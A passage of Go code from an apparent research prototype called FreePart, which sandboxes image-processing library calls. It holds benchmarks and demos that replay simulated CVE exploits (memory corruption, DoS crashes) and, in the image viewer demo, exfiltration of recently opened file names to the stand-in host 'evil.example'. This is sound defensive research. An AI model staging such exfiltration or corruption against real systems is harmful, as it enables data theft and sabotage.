			b.Fatal(err)
		}
		e := apps.NewEnv(k, rt, a)
		if err := a.Run(e); err != nil {
			b.Fatal(err)
		}
		if rt.Metrics.Snapshot().LazyFraction() < 0.5 {
			b.Fatal("LDC fraction collapsed")
		}
		rt.Close()
	}
}

// BenchmarkFig4_Partitions sweeps partition counts 4..8 with one random
// sample each.
func BenchmarkFig4_Partitions(b *testing.B) {
	for i := 0; i < b.N; i++ {
		if _, err := baseline.SweepPartitions(4, 8, 1, 1); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkFig7_CVECorpus regenerates and tabulates the 241-CVE corpus.
func BenchmarkFig7_CVECorpus(b *testing.B) {
	for i := 0; i < b.N; i++ {
		tab := attack.CorpusByTypeAndClass(attack.StudyCorpus())
		if len(tab) != 4 {
			b.Fatal("corpus broke")
		}
	}
}

// BenchmarkFig13_Overhead measures one app's protected-vs-direct overhead
// (the Fig. 13 per-app measurement).
func BenchmarkFig13_Overhead(b *testing.B) {
	reg := all.Registry()
	cat := analysis.New(reg, nil).Categorize()
	a, _ := apps.ByID(4) // lbpcascade_anime: a mid-weight pipeline
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		k1 := kernel.New()
		e1 := apps.NewEnv(k1, core.NewDirect(k1, all.Registry()), a)
		if err := a.Run(e1); err != nil {
			b.Fatal(err)
		}
		k2 := kernel.New()
		rt, err := core.New(k2, reg, cat, core.Default())
		if err != nil {
			b.Fatal(err)
		}
		e2 := apps.NewEnv(k2, rt, a)
		if err := a.Run(e2); err != nil {
			b.Fatal(err)
		}
		rt.Close()
	}
}

// BenchmarkRuntime_CallPath measures the hot interposition path: one DP
// call through the full RPC machinery.
func BenchmarkRuntime_CallPath(b *testing.B) {
	k := kernel.New()
	reg := all.Registry()
	cat := analysis.New(reg, nil).Categorize()
	rt, err := core.New(k, reg, cat, core.Default())
	if err != nil {
		b.Fatal(err)
	}
	defer rt.Close()
	gen := workload.New(1)
	k.FS.WriteFile("/in.img", gen.EncodedImage(16, 16, 1))
	imgs, _, err := rt.Call("cv.imread", framework.Str("/in.img"))
	if err != nil {
		b.Fatal(err)
	}
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, _, err := rt.Call("cv.threshold", imgs[0].Value()); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkDirect_CallPath is the unprotected counterpart of the call-path
// benchmark (the wall-time cost of the interposition machinery itself).
func BenchmarkDirect_CallPath(b *testing.B) {
	k := kernel.New()
	d := core.NewDirect(k, all.Registry())
	gen := workload.New(1)
	k.FS.WriteFile("/in.img", gen.EncodedImage(16, 16, 1))
	imgs, _, err := d.Call("cv.imread", framework.Str("/in.img"))
	if err != nil {
		b.Fatal(err)
	}
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		out, _, err := d.Call("cv.threshold", imgs[0].Value())
		if err != nil {
			b.Fatal(err)
		}
		if err := d.Free(out[0]); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkServing_Sharded runs the session-sharded detection service at 4
// protected shards over a fixed request stream.
func BenchmarkServing_Sharded(b *testing.B) {
	reg := all.Registry()
	cat := analysis.New(reg, nil).Categorize()
	reqs := apps.GenDetectionRequests(7, 32)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		ex, err := core.NewExecutor(4, core.ProtectedShards(reg, cat, core.Default()))
		if err != nil {
			b.Fatal(err)
		}
		srv, err := apps.ProvisionDetection(ex)
		if err != nil {
			b.Fatal(err)
		}
		if got := apps.Served(srv.Serve(reqs)); got != len(reqs) {
			b.Fatalf("served %d/%d", got, len(reqs))
		}
		ex.Close()
	}
}

// BenchmarkServing_Scaling regenerates the shard-count sweep behind
// BENCH_serving.json and asserts the scaling claim holds.
func BenchmarkServing_Scaling(b *testing.B) {
	for i := 0; i < b.N; i++ {
		results, err := report.MeasureServing([]int{1, 2, 4, 8}, 32)
		if err != nil {
			b.Fatal(err)
		}
		if results[2].Speedup < 2 {
			b.Fatalf("4-shard speedup %.2fx, want >= 2x", results[2].Speedup)
		}
	}
}

// BenchmarkA14_SubPartitioning measures the adversarial hot-pair split.
func BenchmarkA14_SubPartitioning(b *testing.B) {
	reg := all.Registry()
	cat := analysis.New(reg, nil).Categorize()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, err := baseline.MeasurePartitioned(5, baseline.SplitHotPairPartitionOf(cat), 1, 8, 4); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkAblation_Mechanisms regenerates the per-mechanism overhead
// ablation (the DESIGN.md design-choice benches).
func BenchmarkAblation_Mechanisms(b *testing.B) {
	for i := 0; i < b.N; i++ {
		if _, err := report.Ablation(1); err != nil {
			b.Fatal(err)
		}
	}
}
