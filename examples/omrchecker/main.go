// OMRChecker: the paper's motivating example (§3), end to end.
//
// A teacher grades student OMR sheets. A malicious student submits a
// crafted image exploiting CVE-2017-12597 in cv.imread to corrupt the
// template variable (the answer-mark coordinates), and a second crafted
// image exploiting the imshow DoS to crash the grader. The demo runs the
// attack twice — unprotected, then under FreePart — and shows the
// difference.
//
//	go run ./examples/omrchecker
package main

import (
	"fmt"
	"log"

	"freepart.dev/freepart/internal/analysis"
	"freepart.dev/freepart/internal/apps"
	"freepart.dev/freepart/internal/attack"
	"freepart.dev/freepart/internal/core"
	"freepart.dev/freepart/internal/framework"
	"freepart.dev/freepart/internal/framework/all"
	"freepart.dev/freepart/internal/kernel"
	"freepart.dev/freepart/internal/mem"
)

func main() {
	app, _ := apps.ByID(8) // OMRChecker

	fmt.Println("=== unprotected ===")
	runScenario(app, false)
	fmt.Println()
	fmt.Println("=== FreePart ===")
	runScenario(app, true)
}

func runScenario(app apps.App, protected bool) {
	k := kernel.New()
	reg := all.Registry()
	var ex core.Caller
	var rt *core.Runtime
	if protected {
		cat := analysis.New(reg, nil).Categorize()
		var err error
		rt, err = core.New(k, reg, cat, core.Default())
		if err != nil {
			log.Fatal(err)
		}
		defer rt.Close()
		ex = rt
	} else {
		ex = core.NewDirect(k, reg)
	}
	e := apps.NewEnv(k, ex, app)

	// Grade two honest sheets first.
	omr, scores, err := apps.OMRGradeAll(e, 2)
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("graded %d honest sheets, scores %v\n", len(scores), scores)

	// Install the attack payload interpreter.
	alog := &attack.Log{}
	if rt != nil {
		rt.OnExploit = alog.Handler()
	} else {
		ex.(*core.Direct).Ctx.OnExploit = alog.Handler()
	}

	// Attack 1: corrupt the template coordinates through imread (A).
	evil := attack.Corrupt("CVE-2017-12597", omr.Template.Base, []byte{0, 0, 0, 0, 0, 0, 0, 0})
	k.FS.WriteFile(e.Dir+"/malicious-submission.img", evil)
	_, _, aerr := e.Call("cv.imread", framework.Str(e.Dir+"/malicious-submission.img"))
	fmt.Printf("attack 1 (template corruption): exploit result %v\n", short(aerr))

	var space = hostSpace(e, ex)
	tmpl, _ := space.Load(omr.Template.Base, 4)
	intact := tmpl[0] != 0 || tmpl[1] != 0
	fmt.Printf("  template intact: %v\n", intact)

	// Attack 2: crash the grader through imshow (B).
	dos := attack.DoS("CVE-2019-15939")
	id, _, err := e.Ex.(interface {
		Call(string, ...framework.Value) ([]core.Handle, []framework.Value, error)
	}).Call("cv.imread", framework.Str(e.Inputs[0]))
	if err == nil && len(id) > 0 {
		// Hand-craft a mat whose payload carries the imshow trigger.
		k.FS.WriteFile(e.Dir+"/dos.img", dos)
		_, _, derr := e.Call("cv.imshow", framework.Str("view"), trojanMat(e, dos))
		fmt.Printf("attack 2 (imshow DoS): exploit result %v\n", short(derr))
	}

	// Can the teacher keep grading?
	_, scores2, err2 := apps.OMRGradeAll(e, 1)
	fmt.Printf("grading after the attacks: scores %v, err %v\n", scores2, short(err2))
	host := hostProc(e, ex)
	fmt.Printf("host process: %s\n", host.State())
}

// trojanMat builds a mat whose pixel payload embeds the DoS trigger.
func trojanMat(e *apps.Env, trigger []byte) framework.Value {
	rows := 1
	cols := len(trigger)
	var id uint64
	var err error
	if e.Rt != nil {
		id, _, err = e.Rt.HostCtx().NewMatFromBytes(rows, cols, 1, trigger)
	} else {
		id, _, err = e.Ex.(*core.Direct).Ctx.NewMatFromBytes(rows, cols, 1, trigger)
	}
	if err != nil {
		log.Fatal(err)
	}
	return framework.Obj(id)
}

func hostSpace(e *apps.Env, ex core.Caller) *mem.AddressSpace {
	if e.Rt != nil {
		return e.Rt.Host.Space()
	}
	return ex.(*core.Direct).Proc.Space()
}

func hostProc(e *apps.Env, ex core.Caller) *kernel.Process {
	if e.Rt != nil {
		return e.Rt.Host
	}
	return ex.(*core.Direct).Proc
}

func short(err error) string {
	if err == nil {
		return "ok"
	}
	s := err.Error()
	if len(s) > 70 {
		s = s[:70] + "..."
	}
	return s
}
