// Autonomous drone case study (§5.4.1).
//
// The drone tracks an object through camera frames. Two attacks arrive as
// crafted frames: a DoS (CVE-2017-14136) that crashes the loading path,
// and a data corruption (CVE-2017-12606) that tries to flip the drone's
// speed configuration to -0.3 (fly away from the target). Unprotected, the
// drone falls out of the sky and then flies backwards; under FreePart it
// hovers through the poisoned frames and keeps its configuration.
//
//	go run ./examples/drone
package main

import (
	"fmt"
	"log"

	"freepart.dev/freepart/internal/analysis"
	"freepart.dev/freepart/internal/apps"
	"freepart.dev/freepart/internal/attack"
	"freepart.dev/freepart/internal/core"
	"freepart.dev/freepart/internal/framework/all"
	"freepart.dev/freepart/internal/kernel"
)

func main() {
	fmt.Println("=== unprotected drone ===")
	fly(false)
	fmt.Println()
	fmt.Println("=== FreePart drone ===")
	fly(true)
}

func fly(protected bool) {
	app := apps.DroneApp()
	k := kernel.New()
	reg := all.Registry()
	var ex core.Caller
	var rt *core.Runtime
	if protected {
		cat := analysis.New(reg, nil).Categorize()
		var err error
		rt, err = core.New(k, reg, cat, core.Default())
		if err != nil {
			log.Fatal(err)
		}
		defer rt.Close()
		ex = rt
	} else {
		ex = core.NewDirect(k, reg)
	}
	e := apps.NewEnv(k, ex, app)
	drone, err := apps.NewDrone(e)
	if err != nil {
		log.Fatal(err)
	}

	alog := &attack.Log{}
	if rt != nil {
		rt.OnExploit = alog.Handler()
	} else {
		ex.(*core.Direct).Ctx.OnExploit = alog.Handler()
	}

	// Poison two of the camera frames.
	k.FS.WriteFile(e.Inputs[1], attack.DoS("CVE-2017-14136"))
	k.FS.WriteFile(e.Inputs[3],
		attack.Corrupt("CVE-2017-12606", drone.SpeedRegion.Base, []byte{byte(0x100 - 30)}))

	if err := drone.Fly(e, 8); err != nil {
		fmt.Println("flight aborted:", err)
	}
	speed, serr := drone.Speed()
	fmt.Printf("frames handled: %d / 8\n", drone.FramesHandled)
	fmt.Printf("speed config:   %.2f (err %v)\n", speed, serr)
	for i, c := range drone.Commands {
		fmt.Printf("  t=%d %s\n", i, c)
	}
	host := hostOf(e, ex)
	fmt.Printf("drone control process: %s\n", host.State())
}

func hostOf(e *apps.Env, ex core.Caller) *kernel.Process {
	if e.Rt != nil {
		return e.Rt.Host
	}
	return ex.(*core.Direct).Proc
}
