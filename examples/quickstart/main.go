// Quickstart: protect a small image-processing pipeline with FreePart.
//
// It builds the simulated environment, runs the hybrid analysis to
// categorize framework APIs, starts the FreePart runtime (host + four
// agents), and pushes an image through load → blur → edge-detect → show →
// store — then prints where everything ran and what the isolation cost.
//
//	go run ./examples/quickstart
package main

import (
	"fmt"
	"log"

	"freepart.dev/freepart/internal/analysis"
	"freepart.dev/freepart/internal/core"
	"freepart.dev/freepart/internal/framework"
	"freepart.dev/freepart/internal/framework/all"
	"freepart.dev/freepart/internal/kernel"
	"freepart.dev/freepart/internal/trace"
	"freepart.dev/freepart/internal/workload"
)

func main() {
	// 1. The simulated machine: kernel, filesystem, devices.
	k := kernel.New()

	// 2. Offline hybrid analysis (Fig. 5): trace the framework test suites
	//    and categorize every API into loading/processing/visualizing/
	//    storing.
	reg := all.Registry()
	runner := trace.NewRunner(reg)
	trace.RunSuite(kernel.New(), runner) // traced on a scratch kernel
	cat := analysis.New(reg, runner.Recorder).Categorize()

	// 3. Online runtime: host process + one agent per API type, with lazy
	//    data copy, temporal memory permissions, and syscall lockdown.
	rt, err := core.New(k, reg, cat, core.Default())
	if err != nil {
		log.Fatal(err)
	}
	defer rt.Close()

	// 4. An input image.
	gen := workload.New(1)
	k.FS.WriteFile("/photo.img", gen.EncodedImage(64, 64, 1))

	// 5. The pipeline. Every Call is interposed: it runs in the right
	//    agent process and moves data by reference (lazy data copy).
	img, _, err := rt.Call("cv.imread", framework.Str("/photo.img"))
	check(err)
	blurred, _, err := rt.Call("cv.GaussianBlur", img[0].Value())
	check(err)
	edges, _, err := rt.Call("cv.Canny", blurred[0].Value(), framework.Int64(40))
	check(err)
	_, _, err = rt.Call("cv.imshow", framework.Str("edges"), edges[0].Value())
	check(err)
	_, _, err = rt.Call("cv.imwrite", framework.Str("/edges.img"), edges[0].Value())
	check(err)

	// 6. Where did everything run?
	fmt.Println("pipeline complete; processes:")
	for _, p := range k.Processes() {
		counts := p.SyscallCounts()
		total := uint64(0)
		for _, n := range counts {
			total += n
		}
		fmt.Printf("  %-26s %-8s %3d syscalls\n", p.Name(), p.State(), total)
	}
	s := rt.Metrics.Snapshot()
	fmt.Printf("isolation cost: %d IPC round trips, %d bytes moved, %.0f%% of copies lazy\n",
		s.IPCCalls, s.BytesMoved, 100*s.LazyFraction())
	fmt.Printf("framework state ended in: %s\n", rt.State().Long())
	fmt.Printf("output stored: %v (%d bytes)\n", k.FS.Exists("/edges.img"), k.FS.Size("/edges.img"))
}

func check(err error) {
	if err != nil {
		log.Fatal(err)
	}
}
