// Image viewer information-leak case study (§5.4.2, MComix3).
//
// The viewer keeps recently opened file names — sensitive data — in host
// memory and in the GUI subsystem. A crafted image exploits
// CVE-2020-10378 during loading to read the recent list and exfiltrate it
// to evil.example. Unprotected, the names leak; under FreePart the exploit
// runs in the loading agent, which can neither read the host's list nor
// pass the seccomp filter to reach the network.
//
//	go run ./examples/imageviewer
package main

import (
	"fmt"
	"log"

	"freepart.dev/freepart/internal/analysis"
	"freepart.dev/freepart/internal/apps"
	"freepart.dev/freepart/internal/attack"
	"freepart.dev/freepart/internal/core"
	"freepart.dev/freepart/internal/framework"
	"freepart.dev/freepart/internal/framework/all"
	"freepart.dev/freepart/internal/kernel"
)

func main() {
	fmt.Println("=== unprotected viewer ===")
	view(false)
	fmt.Println()
	fmt.Println("=== FreePart viewer ===")
	view(true)
}

func view(protected bool) {
	app := apps.ViewerApp()
	k := kernel.New()
	reg := all.Registry()
	var ex core.Caller
	var rt *core.Runtime
	if protected {
		cat := analysis.New(reg, nil).Categorize()
		var err error
		rt, err = core.New(k, reg, cat, core.Default())
		if err != nil {
			log.Fatal(err)
		}
		defer rt.Close()
		ex = rt
	} else {
		ex = core.NewDirect(k, reg)
	}
	e := apps.NewEnv(k, ex, app)
	viewer, err := apps.NewViewer(e)
	if err != nil {
		log.Fatal(err)
	}

	// Browse a few (private) images.
	for _, p := range e.Inputs[:3] {
		if err := viewer.Open(e, p); err != nil {
			log.Fatal(err)
		}
	}
	recent, _ := viewer.Recent()
	fmt.Printf("recent list (%d bytes): %q...\n", len(recent), firstLine(recent))

	alog := &attack.Log{}
	if rt != nil {
		rt.OnExploit = alog.Handler()
	} else {
		ex.(*core.Direct).Ctx.OnExploit = alog.Handler()
	}

	// The crafted "comic page".
	k.FS.WriteFile(e.Dir+"/page.img",
		attack.Exfiltrate("CVE-2020-10378", viewer.RecentRegion.Base, 32, "evil.example"))
	_, _, aerr := e.Call("cv.imread", framework.Str(e.Dir+"/page.img"))
	fmt.Printf("exploit: %v\n", shortErr(aerr))

	sent := k.Net.SentTo("evil.example")
	if len(sent) > 0 {
		fmt.Printf("LEAKED to evil.example: %q\n", sent[0].Data)
	} else {
		fmt.Println("nothing reached evil.example")
	}
	if out := alog.Last(); out != nil {
		fmt.Printf("attacker read: %q, crashed=%v\n", out.Leaked, out.Crashed)
	}
}

func firstLine(s string) string {
	for i, c := range s {
		if c == '\n' {
			return s[:i]
		}
	}
	return s
}

func shortErr(err error) string {
	if err == nil {
		return "returned normally"
	}
	s := err.Error()
	if len(s) > 60 {
		s = s[:60] + "..."
	}
	return s
}
