// Detection server (§4.4.2, §5.3): a long-running service that detects
// objects in images submitted by remote users. Servers prioritize
// availability, so FreePart's restart supervisor revives crashed agents
// and the service keeps answering.
//
// The demo has two acts. First the availability story: three honest users
// and one malicious one (a DoS exploit in the loading path). Unprotected,
// the service dies at the malicious request and later users get nothing;
// under FreePart the bad request fails alone. Second the serving mode: a
// session-sharded core.Executor answers a request stream across
// -concurrency runtime shards, printing virtual-time throughput and
// latency percentiles from the merged per-shard clocks.
//
// Pass -kill-shard to stage a failover drill: the named shard is killed at
// the given virtual time into the serving run, its sessions migrate to a
// replacement through the portable checkpoint store, and the demo prints how
// many sessions moved and what the failover added to the p99 latency.
//
// Pass -autoscale to run the control-plane act instead: the stateful
// tracking workload under a load ramp, with the sched reconcile loop
// growing the pool as burst clients join, rebalancing sessions onto fresh
// shards, batching admissions, and shrinking — drain and migrate, no
// corpse — after the burst leaves. The demo prints the replayable decision
// log and the tail-latency/shard-seconds summary.
//
// Pass -overload <factor> to run the overload-protection act: a two-tenant
// tracking load offered at factor× the pool's calibrated capacity, served
// under a bounded admission queue with deadline shedding and weighted fair
// queueing. The demo prints goodput, the shed work split by error class
// (core.ErrClass), and the per-tenant served/shed balance.
//
// Pass -isolation <paper|tiered|erim|none> to run the tiered-isolation act:
// the full detection pipeline (load, detect, annotate, show, store) served
// under the named Boundary policy, with the per-tier mechanism costs and
// the domain switch/copy counters the run generated printed at the end.
//
// Pass -slow-shard <id>@<factor> to run the gray-failure act: the named
// shard stays alive but serves every call factor-times slow. A fault-free
// pass calibrates the suspicion scorer's service-time baseline and the
// hedge delay; the degraded pass then serves the same stream with latency
// scoring and hedged requests armed, and the demo prints the suspicion
// scores, the drain of the slow shard, the hedge race counters, and what
// the gray failure added to the p99 latency after mitigation.
//
// Pass -partitions <n> to run the partition-plane act: a Zipf-skewed
// population of returning users (skew set by -zipf) served on a
// range-partitioned keyed data plane with placement memory. The first pass
// shows the melt — every partition prefers its home shard, so the Zipf
// head's range concentrates its mass on one shard and queues. The second
// pass serves the same stream but stages a mid-window rebalance drill:
// split the hot partition at its observed load midpoint, migrate the upper
// half's live sessions to the coldest shard, and revoke the moved range's
// stale placement traces. The demo prints the warm-hit ratios, both latency
// distributions, and verifies the drill changed no served byte.
//
// Pass -defense to run the adaptive-defense act: the pool starts at the
// cheap erim floor with the defense controller armed, an attacker lands
// one imread DoS exploit (first sighting: the shard's host dies and fails
// over), and the next barrier arms the signature blocklist, quarantines
// the attacker, and escalates the hit API type. The repeat exploit dies
// at the front door (attack-blocked), the attacker's benign traffic is
// refused at admission (quarantined), honest users keep being served, and
// after a clean wave the policy anneals back to the floor and the tenant
// is released. The demo prints the failure classes and the replayable
// decision log.
//
//	go run ./examples/server
//	go run ./examples/server -concurrency 4 -requests 64
//	go run ./examples/server -concurrency 4 -requests 64 -kill-shard 2@1ms
//	go run ./examples/server -concurrency 4 -requests 64 -slow-shard 2@10
//	go run ./examples/server -autoscale -concurrency 8
//	go run ./examples/server -overload 4 -concurrency 4
//	go run ./examples/server -isolation tiered -concurrency 4
//	go run ./examples/server -defense -concurrency 4
//	go run ./examples/server -partitions 4 -zipf 1.2
package main

import (
	"flag"
	"fmt"
	"log"
	"sort"
	"strconv"
	"strings"
	"time"

	"freepart.dev/freepart/internal/analysis"
	"freepart.dev/freepart/internal/attack"
	"freepart.dev/freepart/internal/chaos"
	"freepart.dev/freepart/internal/core"
	"freepart.dev/freepart/internal/defense"
	"freepart.dev/freepart/internal/framework"
	"freepart.dev/freepart/internal/framework/all"
	"freepart.dev/freepart/internal/framework/simcv"
	"freepart.dev/freepart/internal/isolation"
	"freepart.dev/freepart/internal/kernel"
	"freepart.dev/freepart/internal/partition"
	"freepart.dev/freepart/internal/report"
	"freepart.dev/freepart/internal/sched"
	"freepart.dev/freepart/internal/vclock"
	"freepart.dev/freepart/internal/workload"

	"freepart.dev/freepart/internal/apps"
)

func main() {
	concurrency := flag.Int("concurrency", 4, "runtime shards in the serving pool (the ceiling with -autoscale)")
	requests := flag.Int("requests", 32, "requests in the serving-mode stream")
	killShard := flag.String("kill-shard", "", "failover drill: kill shard <id> at virtual time <d> into the run, e.g. 2@1ms")
	slowShard := flag.String("slow-shard", "", "gray drill: serve with shard <id> alive but <factor>x slow, e.g. 2@10; suspicion scoring and hedging mitigate")
	autoscale := flag.Bool("autoscale", false, "autoscaling drill: serve the tracking load ramp with the control plane scaling 2..concurrency shards")
	overload := flag.Int("overload", 0, "overload drill: offer the two-tenant tracking load at this multiple of pool capacity (0 = off)")
	isolationName := flag.String("isolation", "", "isolation drill: serve under this tier policy (paper|tiered|erim|none; empty = off)")
	defenseMode := flag.Bool("defense", false, "adaptive-defense drill: start at the erim floor, escalate/quarantine on attack sightings, anneal back")
	partitions := flag.Int("partitions", 0, "partition drill: serve a Zipf-keyed stream over this many range partitions and rebalance the hot one mid-window (0 = off)")
	zipf := flag.Float64("zipf", 1.1, "Zipf skew of the -partitions user population (must exceed 1)")
	flag.Parse()
	// Fail bad flags fast, before any demo act runs.
	if *concurrency < 1 {
		log.Fatalf("-concurrency %d: the serving pool needs at least 1 shard", *concurrency)
	}
	if *requests < 0 {
		log.Fatalf("-requests %d: the request stream cannot have a negative length", *requests)
	}
	if *overload < 0 {
		log.Fatalf("-overload %d: the load factor is a multiple of capacity; want 0 (off) or a positive factor like 4", *overload)
	}
	if *killShard != "" {
		if _, _, err := parseKillSpec(*killShard, *concurrency); err != nil {
			log.Fatalf("-kill-shard: %v", err)
		}
	}
	if *slowShard != "" {
		if _, _, err := parseSlowSpec(*slowShard, *concurrency); err != nil {
			log.Fatalf("-slow-shard: %v", err)
		}
	}
	var pol *isolation.Policy
	if *isolationName != "" {
		var ok bool
		pol, ok = isolation.ByName(*isolationName)
		if !ok {
			log.Fatalf("-isolation %q: unknown policy; want one of %s", *isolationName, strings.Join(isolation.Names(), "|"))
		}
	}
	if *partitions < 0 {
		log.Fatalf("-partitions %d: want 0 (off) or a positive partition count", *partitions)
	}
	if *partitions > 0 && *zipf <= 1 {
		log.Fatalf("-zipf %g: the Zipf skew must exceed 1", *zipf)
	}
	if *partitions > 0 {
		shards := *concurrency
		if shards%2 != 0 {
			shards++ // the two-socket topology needs pairs
		}
		fmt.Printf("=== FreePart partition mode (%d shards, %d partitions, zipf %.2f) ===\n",
			shards, *partitions, *zipf)
		servePartition(shards, *requests, *partitions, *zipf)
		return
	}
	if *defenseMode {
		fmt.Printf("=== FreePart adaptive defense mode (%d shards) ===\n", *concurrency)
		serveDefense(*concurrency, *requests)
		return
	}
	if pol != nil {
		fmt.Printf("=== FreePart isolation mode (%s policy, %d shards) ===\n", pol.Name, *concurrency)
		serveIsolation(*concurrency, *requests, pol)
		return
	}
	if *overload > 0 {
		fmt.Printf("=== FreePart overload mode (%d shards, %dx capacity) ===\n", *concurrency, *overload)
		serveOverload(*concurrency, *overload)
		return
	}
	if *slowShard != "" {
		id, factor, _ := parseSlowSpec(*slowShard, *concurrency)
		fmt.Printf("=== FreePart gray-failure mode (%d shards, shard %d at %gx) ===\n", *concurrency, id, factor)
		serveGray(*concurrency, *requests, id, factor)
		return
	}
	if *autoscale {
		max := *concurrency
		if max < 3 {
			max = 3
		}
		fmt.Printf("=== FreePart autoscaling mode (2..%d shards) ===\n", max)
		serveAutoscale(max)
		return
	}

	fmt.Println("=== unprotected server ===")
	serve(false)
	fmt.Println()
	fmt.Println("=== FreePart server ===")
	serve(true)
	fmt.Println()
	fmt.Printf("=== FreePart serving mode (%d shards) ===\n", *concurrency)
	serveConcurrent(*concurrency, *requests, *killShard)
}

// parseKillSpec splits a -kill-shard value of the form "<id>@<duration>",
// e.g. "2@1ms": kill shard 2 one virtual millisecond into the serving run.
func parseKillSpec(spec string, shards int) (int, vclock.Duration, error) {
	idPart, atPart, ok := strings.Cut(spec, "@")
	if !ok {
		return 0, 0, fmt.Errorf("want <id>@<duration>, e.g. 2@1ms; got %q", spec)
	}
	id, err := strconv.Atoi(idPart)
	if err != nil || id < 0 || id >= shards {
		return 0, 0, fmt.Errorf("shard id %q out of range [0,%d)", idPart, shards)
	}
	at, err := time.ParseDuration(atPart)
	if err != nil || at <= 0 {
		return 0, 0, fmt.Errorf("bad kill time %q: want a positive duration like 1ms", atPart)
	}
	return id, vclock.Duration(at), nil
}

// parseSlowSpec splits a -slow-shard value of the form "<id>@<factor>",
// e.g. "2@10": shard 2 stays alive but serves every call ten times slow.
func parseSlowSpec(spec string, shards int) (int, float64, error) {
	idPart, facPart, ok := strings.Cut(spec, "@")
	if !ok {
		return 0, 0, fmt.Errorf("want <id>@<factor>, e.g. 2@10; got %q", spec)
	}
	id, err := strconv.Atoi(idPart)
	if err != nil || id < 0 || id >= shards {
		return 0, 0, fmt.Errorf("shard id %q out of range [0,%d)", idPart, shards)
	}
	factor, err := strconv.ParseFloat(facPart, 64)
	if err != nil || factor <= 1 {
		return 0, 0, fmt.Errorf("bad slowdown %q: want a factor above 1 like 10", facPart)
	}
	return id, factor, nil
}

// request is one user's submission.
type request struct {
	user int
	body []byte
}

func serve(protected bool) {
	k := kernel.New()
	reg := all.Registry()
	var ex core.Caller
	var rt *core.Runtime
	if protected {
		cat := analysis.New(reg, nil).Categorize()
		var err error
		rt, err = core.New(k, reg, cat, core.Default())
		if err != nil {
			log.Fatal(err)
		}
		defer rt.Close()
		ex = rt
	} else {
		ex = core.NewDirect(k, reg)
	}
	alog := &attack.Log{}
	if rt != nil {
		rt.OnExploit = alog.Handler()
	} else {
		ex.(*core.Direct).Ctx.OnExploit = alog.Handler()
	}

	// The detection model.
	k.FS.WriteFile("/srv/model.xml", simcv.EncodeClassifier(150, 4))
	model, _, err := ex.Call("cv.CascadeClassifier", framework.Str("/srv/model.xml"))
	if err != nil {
		log.Fatal(err)
	}

	// Incoming requests: users 1, 3, 4 honest; user 2 malicious.
	gen := workload.New(11)
	reqs := []request{
		{1, gen.EncodedImage(16, 16, 1)},
		{2, attack.DoS("CVE-2017-14136")},
		{3, gen.EncodedImage(16, 16, 1)},
		{4, gen.EncodedImage(16, 16, 1)},
	}

	served := 0
	for i, rq := range reqs {
		path := fmt.Sprintf("/srv/req-%d.img", i)
		k.FS.WriteFile(path, rq.body)
		img, _, err := ex.Call("cv.imread", framework.Str(path))
		if err != nil {
			fmt.Printf("user %d: request failed (%s)\n", rq.user, short(err))
			if rt != nil {
				// The availability-first policy (§4.4.2): restart and go on.
				if rerr := rt.RestartDead(); rerr != nil {
					log.Fatal(rerr)
				}
			}
			continue
		}
		_, plain, err := ex.Call("cv.CascadeClassifier.detectMultiScale", model[0].Value(), img[0].Value())
		if err != nil {
			fmt.Printf("user %d: detection failed (%s)\n", rq.user, short(err))
			continue
		}
		fmt.Printf("user %d: %d objects detected\n", rq.user, plain[0].Int)
		served++
	}
	fmt.Printf("served %d/%d users\n", served, len(reqs))
	alive := true
	if rt != nil {
		alive = rt.Host.Alive()
	} else {
		alive = ex.(*core.Direct).Proc.Alive()
	}
	fmt.Printf("service process alive: %v\n", alive)
}

// serveConcurrent runs the session-sharded serving layer: n protected
// runtime shards behind a core.Executor, one model build shared across all
// shards via the read-only object store, and a deterministic request
// stream fanned out through sessions. A non-empty killSpec stages a failover
// drill on top: the same stream is first served undisturbed to establish the
// baseline p99, then re-served with the named shard killed at the given
// virtual time.
func serveConcurrent(shards, requests int, killSpec string) {
	reqs := apps.GenDetectionRequests(11, requests)

	var killID int
	var killAt vclock.Duration
	var baseP99 vclock.Duration
	if killSpec != "" {
		var err error
		killID, killAt, err = parseKillSpec(killSpec, shards)
		if err != nil {
			log.Fatalf("-kill-shard: %v", err)
		}
		bex, p99 := serveStream(shards, reqs, -1, 0, false)
		bex.Close()
		baseP99 = p99
	}

	ex, p99 := serveStream(shards, reqs, killID, killAt, killSpec != "")
	defer ex.Close()

	if killSpec != "" {
		m := ex.Metrics().Snapshot()
		fmt.Printf("failover drill: killed shard %d at +%v\n", killID, killAt)
		fmt.Printf("shards drained: %d, sessions migrated: %d (failed: %d)\n",
			m.ShardDrains, m.Migrations, m.FailedMigrations)
		for _, ev := range ex.FailoverEventsFor(killID) {
			fmt.Printf("  [%v] shard %d gen %d: %s %s\n", ev.At, ev.Shard, ev.Gen, ev.Kind, ev.Detail)
		}
		fmt.Printf("added p99: %v (baseline %v, with failover %v)\n", p99-baseP99, baseP99, p99)
	}
}

// serveGray runs the gray-failure act: the same detection stream served
// twice, first fault-free (calibrating the suspicion scorer's service-time
// baseline and the hedge delay, no oracle knowledge of the slow slot), then
// with shard slowID alive but factor-times slow and both mitigations armed.
// Serving is strictly sequential so drains and hedge races replay
// byte-equal.
func serveGray(shards, requests, slowID int, factor float64) {
	reqs := apps.GenDetectionRequests(11, requests)

	run := func(degrade bool, gray core.GrayPolicy, hedge core.HedgePolicy) *core.Executor {
		reg := all.Registry()
		cat := analysis.New(reg, nil).Categorize()
		planOf := func(id, gen int) chaos.Plan {
			p := chaos.Plan{Seed: chaos.DerivedSeed(11, id)}
			if degrade && id == slowID && gen == 0 {
				// Only generation 0 is gray: a replacement models a fresh
				// machine taking over the slot.
				p = p.WithDegrade(chaos.DegradePlan{Factor: factor})
			}
			return p
		}
		ex, err := core.NewExecutor(shards, core.ChaosShards(reg, cat, core.Default(), planOf))
		if err != nil {
			log.Fatal(err)
		}
		srv, err := apps.ProvisionDetection(ex)
		if err != nil {
			log.Fatal(err)
		}
		for i := 0; i < ex.Shards(); i++ {
			ex.Shard(i).K.Clock.Reset()
		}
